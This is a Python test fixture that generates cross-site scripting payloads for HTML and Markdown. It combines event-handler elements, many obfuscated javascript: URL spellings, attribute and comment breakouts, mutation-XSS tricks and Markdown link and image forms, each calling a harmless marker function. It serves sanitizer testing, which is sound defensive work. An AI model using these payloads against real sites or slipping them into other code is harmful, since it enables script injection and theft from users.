"""Texts that try to run a script where people type: made by rule from parts, in HTML and in Markdown.

Each calls `hit(…)`; a page that runs one says so. Parts: elements that run something by themselves, attributes that do,
addresses of dangerous schemes in many spellings, ways out of an attribute, a comment or a quiet element, and the
constructs of Markdown that make links, pictures and code.
"""

from collections.abc import Iterator

RUN = "hit(1)"
HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "onclick", "ontoggle", "onanimationstart", "onpointerenter")
ELEMENTS = ("img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "a href=#x",
            "iframe", "object data=x", "select autofocus", "marquee", "style", "math", "button autofocus")  # fmt: skip
SPELLINGS = (
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "java\nscript:{run}", " javascript:{run}",
    "\x01javascript:{run}", "javascript&colon;{run}", "&#106;avascript:{run}", "&#x6A;avascript:{run}",
    "&#0000106avascript:{run}", "jav\u200bascript:{run}", "j\u00adavascript:{run}", "javascript\u0000:{run}",
    "//javascript:{run}", "javascript://%0a{run}", "vbscript:{run}", "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=", "feed:javascript:{run}", "view-source:javascript:{run}",
    "blob:javascript:{run}", "file:///etc/passwd", "\\\\evil.example/x", "//evil.example/x", "https:evil", "http://",
    "mailto:", "ＪＡＶＡＳＣＲＩＰＴ:{run}", "ja\u2028vascript:{run}", "%6Aavascript:{run}",
)  # fmt: skip
HOLDERS = ("<a href={q}{url}{q}>x</a>", "<form action={q}{url}{q}><button>x</button></form>", "<iframe src={q}{url}{q}>",
           "<object data={q}{url}{q}>", "<embed src={q}{url}{q}>", "<base href={q}{url}{q}>",
           "<svg><a xlink:href={q}{url}{q}><text>x</text></a></svg>", "<link rel=stylesheet href={q}{url}{q}>",
           "<meta http-equiv=refresh content={q}0;url={url}{q}>", "<math href={q}{url}{q}>x</math>")  # fmt: skip
MARKDOWN = ("[x]({url})", "[x](<{url}>)", "![x]({url})", "[x]: {url}\n\n[x]", "<{url}>", "[x]({url} \"t\")",
            "[![x]({url})]({url})", "`{url}`", "[x](https://ok.example/\"{url})")  # fmt: skip
WAYS_OUT = ('">', "'>", "-->", "]]>", "</textarea>", "</title>", "</style>", "</script>", "</noscript>", "</template>",
            "</xmp>", "</iframe>", "</select>", "</svg>", "</math>", "`>", "\u2028", "--!>")  # fmt: skip
WHOLE = (
    f"<script>{RUN}</script>", f"<SCRIPT\n>{RUN}</SCRIPT >", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<svg><script>{RUN}</script></svg>", f"<svg><script href=data:,{RUN} />", f"<script src=data:,{RUN}></script>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={RUN}&gt;\">",
    f"<svg><style><img src=x onerror={RUN}></style></svg>", f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>", f"<template><script>{RUN}</script></template>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><set onbegin={RUN} attributename=x to=y>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>", f"<xss style=animation-name:x onanimationstart={RUN}>",
    f"<style>@import 'javascript:{RUN}';</style>", f"<p style=\"background:url(javascript:{RUN})\">x</p>",
    f"<button popovertarget=x>x</button><div popover id=x onbeforetoggle={RUN}>y</div>", f"<a/href=javascript:{RUN}>x</a>",
    f"&lt;img src=x onerror={RUN}&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"\\<img src=x onerror={RUN}\\>",
    f"```html\n<img src=x onerror={RUN}>\n```", f"    <img src=x onerror={RUN}>", f"<!-- --><img src=x onerror={RUN}> -->",
    f"# <img src=x onerror={RUN}>", f"- <svg onload={RUN}>", f"> <svg onload={RUN}>", f"**<svg onload={RUN}>**",
    f"| <svg onload={RUN}> | b |\n|---|---|\n| <img src=x onerror={RUN}> | 2 |", f"![\"onerror={RUN} x=\"](piece:1)",
    f"![x](piece:1\"onerror={RUN})", f"![<img src=x onerror={RUN}>](piece:1)", "{{7*7}}${7*7}<%= 7*7 %>",
    f"[a](https://ok.example '\"onmouseover={RUN} x=')", f"[a](https://ok.example \"<img src=x onerror={RUN}>\")",
    f"https://ok.example/\"onmouseover={RUN}", f"<https://ok.example/\"onclick={RUN}//>", f"a@b.example\"onfocus={RUN}",
)  # fmt: skip


def _all() -> Iterator[str]:
    yield from WHOLE
    for element in ELEMENTS:
        for handler in HANDLERS:
            yield f"<{element} {handler}={RUN}>x"
    for number, spelling in enumerate(SPELLINGS):
        url = spelling.format(run=RUN)
        for place, holder in enumerate(HOLDERS):
            yield holder.format(url=url, q=('"', "'", "")[(number + place) % 3])
        yield from (mark.format(url=url) for mark in MARKDOWN)
    for way in WAYS_OUT:
        yield f"{way}<img src=x onerror={RUN}>"
        yield f"<a title=\"{way}<svg onload={RUN}>\">x</a>"
        yield f"[x](https://ok.example \"{way}<svg onload={RUN}>\")"


PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(_all()))
